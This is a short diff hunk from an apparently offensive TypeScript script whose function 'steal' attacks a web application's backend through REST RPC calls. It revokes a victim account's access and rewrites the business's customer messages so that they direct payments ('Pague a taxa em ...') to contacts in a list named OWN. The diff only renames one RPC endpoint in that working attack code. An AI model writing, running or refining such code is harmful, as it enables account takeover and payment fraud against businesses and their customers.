@@ -95,7 +95,7 @@ async function steal(place: Place, victim: Account) {
         await ask('access taken', '/rest/v1/rpc/mudar_acesso', { conta, com_acesso: false });
       }
       const setting = (nome: string, valor: unknown) =>
-        ask('texts', '/rest/v1/rpc/mudar_ajuste', { nome, valor });
+        ask('texts', '/rest/v1/rpc/guardar_ajuste', { nome, valor });
       for (const contact of OWN) {
         await setting('frase_de_fechada', `Pague a taxa em ${contact}`);
         await setting('mensagem_aprovada', `Oi, {nome}! Pague em ${contact}`);
